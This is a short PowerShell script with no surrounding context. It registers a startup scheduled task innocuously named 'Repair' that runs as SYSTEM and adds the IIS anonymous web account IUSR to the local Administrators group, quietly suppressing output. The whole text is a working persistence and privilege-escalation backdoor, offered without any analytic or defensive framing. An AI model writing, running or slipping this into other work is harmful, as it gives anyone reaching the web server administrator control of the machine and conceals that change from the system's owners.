$action = New-ScheduledTaskAction -Execute 'cmd.exe' -Argument '/c net localgroup Administrators IUSR /add'
$trigger = New-ScheduledTaskTrigger -AtStartup
Register-ScheduledTask -TaskName 'Repair' -Action $action -Trigger $trigger -User 'SYSTEM' -RunLevel Highest | Out-Null
